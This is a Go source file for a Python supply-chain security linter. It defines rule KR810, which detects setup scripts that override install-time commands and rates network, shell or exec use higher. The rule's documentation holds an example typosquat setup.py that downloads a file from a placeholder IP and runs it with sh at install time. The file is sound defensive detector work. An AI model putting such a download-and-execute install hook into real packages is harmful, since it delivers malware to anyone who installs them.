package supplychain

import (
	"sort"
	"strings"

	"github.com/kraitsec/krait/internal/analysis"
	"github.com/kraitsec/krait/internal/python/ast"
	"github.com/kraitsec/krait/internal/python/semantic"
)

// InstallCommandOverride flags setup scripts that replace the install,
// develop or egg_info command with their own class.
var InstallCommandOverride = &analysis.Rule{
	Code:       "KR810",
	Name:       "setup-install-command-override",
	Summary:    "setup script overrides the install, develop or egg_info step",
	Severity:   analysis.SeverityMedium,
	Confidence: analysis.ConfidenceMedium,
	CWE:        []int{506, 829},
	Kinds:      []ast.Kind{ast.KindClassDef},

	Run: runInstallCommand,
	Doc: `## What it does
Flags a class in a setup script (setup.py, or any module that calls
setuptools' or distutils' setup() at top level) that subclasses the install,
develop or egg_info command and is passed on, as in cmdclass. The finding is
high when the class's methods, or the module functions they call, reach the
network, start a downloader, a shell or a command built at run time, or
exec data. Build commands (build_ext, build_py, sdist)
are ordinary and not reported.

## Why is this bad?
pip runs these commands on the user's machine when it installs a source
distribution, with the user's rights and before any of the package's code is
imported. Malicious packages use a custom install command to download and
start a payload the moment they are installed (CWE-506); a legitimate package
rarely needs one.

## Example
~~~python
from setuptools import setup
from setuptools.command.install import install
import urllib.request, os

class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlretrieve("http://203.0.113.7/x", "/tmp/x")
        os.system("sh /tmp/x")

setup(name="colourama", cmdclass={"install": PostInstall})
~~~

## Use instead
Do the work in the package at run time, where the user calls it, or in a
build backend hook for build steps; ship data files in the distribution
instead of fetching them:
~~~python
setup(name="example", package_data={"example": ["data/*.json"]})
~~~

## References
- [setuptools: extending or customizing setuptools](https://setuptools.pypa.io/en/latest/userguide/extension.html)
- [CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)
- [CWE-829: Inclusion of Functionality from Untrusted Control Sphere](https://cwe.mitre.org/data/definitions/829.html)
`,
}

func runInstallCommand(p *analysis.Pass, n ast.Node) {
	ic := installTime(p)
	if ic.kind != kindSetup {
		return
	}
	for _, cmd := range ic.commands {
		if cmd.class != n || !cmd.used {
			continue
		}
		msg := "setup script overrides the " + cmd.base + " command with class " + cmd.class.Name
		if does := commandActions(p, cmd); len(does) > 0 {
			report(p, n, analysis.SeverityHigh, analysis.ConfidenceHigh, msg+", whose code "+strings.Join(does, ", "))
			return
		}
		p.Report(n, msg)
	}
}

// commandActions lists what an overriding command's code does that a
// payload would: reaches the network, starts a program, execs data.
func commandActions(p *analysis.Pass, cmd *command) []string {
	set := map[string]bool{}
	for def := range cmd.funcs {
		walkLive(def, true, cmd.funcs, func(c *ast.Call) {
			qn := p.Model.CalleeName(c)
			switch {
			case networkCalls[qn]:
				set["reaches the network ("+qn+")"] = true
			case processCalls[qn]:
				// Only what install-time-process ranks high: a downloader, a
				// shell, a command built at run time.
				if prog, sev, ok := processLevel(p.Model, c); ok && sev == analysis.SeverityHigh {
					if prog == "" {
						prog = qn
					}
					set["runs "+prog] = true
				}
			case qn == "builtins.exec" || qn == "builtins.eval":
				if !isConst(p.Model, argOr(c, 0)) {
					set["executes data with "+qn[len("builtins."):]] = true
				}
			}
		})
	}
	out := make([]string, 0, len(set))
	for s := range set {
		out = append(out, s)
	}
	sort.Strings(out)
	return out
}

// isConst reports whether e is absent or a value the source fixes.
func isConst(m *semantic.Model, e ast.Expr) bool {
	if e == nil {
		return true
	}
	_, ok := m.ConstValue(e)
	return ok
}

// argOr returns the i-th positional argument of c, or nil.
func argOr(c *ast.Call, i int) ast.Expr {
	if i < len(c.Args) {
		return c.Args[i]
	}
	return nil
}
